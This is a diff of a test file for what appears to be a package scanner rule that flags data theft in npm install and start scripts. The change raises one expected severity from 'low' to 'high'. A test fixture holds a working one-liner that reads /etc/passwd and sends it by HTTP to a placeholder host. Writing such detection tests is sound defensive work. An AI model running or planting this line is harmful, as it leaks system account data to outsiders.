@@ -259,7 +259,7 @@ test('what is opened in an editor, credentials of a host, keys to chats, mail an
   const accounts = `const p = require("fs").readFileSync("/etc/passwd", "utf8"); require("http").get("${TO}?" + p)`;
   const at = (script: string, code: string) => findingsOf(rule, { 'a.js': code }, { original: { scripts: { [script]: 'node a.js' } } })[0]?.severity ?? 'nothing';
   for (const code of [mail, accounts]) assert.equal(at('postinstall', code), 'high', code);
-  assert.deepEqual([at('start', mail), at('start', accounts)], ['nothing', 'low']);
+  assert.deepEqual([at('start', mail), at('start', accounts)], ['nothing', 'high']);
 });
 
 test('of an object, only the member that is asked for is sent', () => {
